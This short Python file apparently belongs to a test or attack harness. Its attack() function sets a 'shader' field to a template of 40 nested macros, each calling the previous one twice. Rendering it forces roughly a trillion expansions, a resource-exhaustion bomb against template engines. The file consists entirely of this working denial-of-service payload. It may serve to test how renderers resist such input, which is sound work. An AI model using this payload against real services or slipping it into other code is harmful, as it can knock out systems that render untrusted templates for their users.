# attack.txt says what this tries.
def attack(p):
    p.shader = "{% macro m0() %}{% endmacro %}" + "".join("{%% macro m%d() %%}{{ m%d() }}{{ m%d() }}{%% endmacro %%}" % (i + 1, i, i) for i in range(40)) + "{{ m40() }}"
